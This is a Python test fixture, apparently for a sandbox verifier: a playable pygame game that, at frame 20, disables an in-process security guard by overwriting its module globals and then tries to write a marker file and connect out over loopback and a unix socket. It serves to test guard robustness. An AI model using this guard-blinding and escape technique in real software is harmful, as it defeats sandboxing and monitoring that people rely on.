"""Hostile on purpose: switches the guard off through its module's globals, then escapes.

A small playable game (arrows move the block, a dot pulses) that also tries, once at frame
20, to blind the guard without walking the stack: ``pygame.image.load`` is the guard's own
wrapper (it checks pygame's C loaders), so its ``__globals__`` are the guard module's. The
run's hook looks its tables and helpers up there each time (``SPAWN_EVENTS``,
``NET_EVENTS``, ``_number``, ``_inside``...), so emptying them turns every check off. Then
it writes @MARKER@, connects to 127.0.0.1:@PORT@ and to the unix socket @SOCKET@ (a
listener the test started; in the fallback the host's file system is visible), catching
every error. Harmless payload (a marker under /tmp, loopback only). Never run it outside
the verifier's sandbox.

Controls: arrow keys move the block, a click puts it there, other keys change its colour.
"""

import os

import pygame

WIDTH, HEIGHT = 640, 480
FPS = 60
COLOURS = [(90, 200, 250), (250, 120, 90), (140, 240, 120)]
MARKER = "@MARKER@"
PORT = @PORT@
SOCKET_PATH = "@SOCKET@"


def forbidden_action():
    tables = pygame.image.load.__globals__
    for name in ("SPAWN_EVENTS", "NET_EVENTS", "DELETE_EVENTS", "INTROSPECT_EVENTS"):
        tables[name] = frozenset()
    tables["CHANGE_EVENTS"] = {}
    tables["_number"] = lambda value: -1  # every socket family now passes
    tables["_inside"] = lambda path, roots: True
    net = __import__("soc" + "ket")
    results = []
    for attempt in (
        lambda: open(MARKER, "w").write("studio-hostile-marker"),
        lambda: net.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"escaped"),
        lambda: net.socket(net.AF_UNIX).connect(SOCKET_PATH),
    ):
        try:
            attempt()
            results.append("done")
        except Exception as exc:
            results.append(type(exc).__name__)
    return " ".join(results)


def main():
    pygame.init()
    screen = pygame.display.set_mode((WIDTH, HEIGHT))
    font = pygame.font.Font(None, 28)
    clock = pygame.time.Clock()
    block = pygame.Rect(WIDTH // 2, HEIGHT // 2, 30, 30)
    frame, status, colour = 0, "ok", 0
    moves = {
        pygame.K_LEFT: (-15, 0),
        pygame.K_RIGHT: (15, 0),
        pygame.K_UP: (0, -15),
        pygame.K_DOWN: (0, 15),
    }
    running = True
    while running:
        for event in pygame.event.get():
            if event.type == pygame.QUIT:
                running = False
            elif event.type == pygame.KEYDOWN and event.key in moves:
                block.move_ip(*moves[event.key])
                block.clamp_ip(screen.get_rect())
            elif event.type == pygame.KEYDOWN:  # any other key changes the colour
                colour = (colour + 1) % len(COLOURS)
            elif event.type == pygame.MOUSEBUTTONDOWN:
                block.center = event.pos
        frame += 1
        if frame == 20:
            try:
                status = forbidden_action()
            except Exception as exc:  # carry on, so that only the attempt is wrong
                status = type(exc).__name__
        screen.fill((25, 25, 45))
        pygame.draw.circle(screen, (250, 200, 60), (80, 400), 10 + frame % 20)
        pygame.draw.rect(screen, COLOURS[colour], block)
        screen.blit(font.render(f"{status}   Arrows: move", True, (230, 230, 230)), (10, 10))
        pygame.display.flip()
        clock.tick(FPS)
    pygame.quit()


if __name__ == "__main__":
    main()
